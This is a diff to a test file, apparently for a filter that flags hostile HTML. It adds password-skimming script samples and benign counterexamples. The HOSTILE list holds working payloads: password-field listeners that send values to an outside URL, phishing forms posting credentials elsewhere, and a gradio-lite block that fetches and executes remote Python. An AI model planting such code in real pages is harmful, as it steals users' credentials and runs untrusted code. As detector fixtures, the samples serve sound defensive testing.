@@ -17,6 +17,9 @@ def denied(name: str, text: str) -> bool:
 
 
 HOSTILE = [
+    f"<input id=k type=password><script>document.getElementById('k').addEventListener('change',e=>navigator.sendBeacon('{URL}',e.target.value))</script>",
+    f"<input id=k type=password><script>$('#k').on('blur',function(){{$.post('{URL}',{{v:this.value}})}})</script>",
+    f"<input type=password onchange=\"navigator.sendBeacon('{URL}',this.value)\">",
     f"<form action='{URL}/in' method=post>{FIELDS}<button>Sign in</button></form>",
     f"<iframe srcdoc=\"&lt;form action='{URL}'&gt;&lt;input type='password'&gt;&lt;/form&gt;\"></iframe>",
     f"<title>GitHub</title><form id=f>{FIELDS}</form><script>fetch('{URL}',{{method:'POST',body:new FormData(f)}}).then(r=>go(r))</script>",
@@ -46,6 +49,8 @@ HOSTILE = [
     "<gradio-lite>\nimport os\nexec(__import__('urllib.request').request.urlopen('https://c.example/a').read())\n</gradio-lite>",
 ]
 HONEST = [
+    f"<input id=q type=search><script>document.getElementById('q').addEventListener('change',e=>navigator.sendBeacon('{URL}',e.target.value))</script>",
+    "<input id=k type=password><script>document.getElementById('k').addEventListener('change',e=>localStorage.setItem('k',e.target.value))</script>",
     f"<form action='/login' method=post>{FIELDS}</form>",
     f"<form action='https://github.com/session' method=post>{FIELDS}</form>",
     f"<form action='{URL}/subscribe' method=post><input type=email name=e></form>",
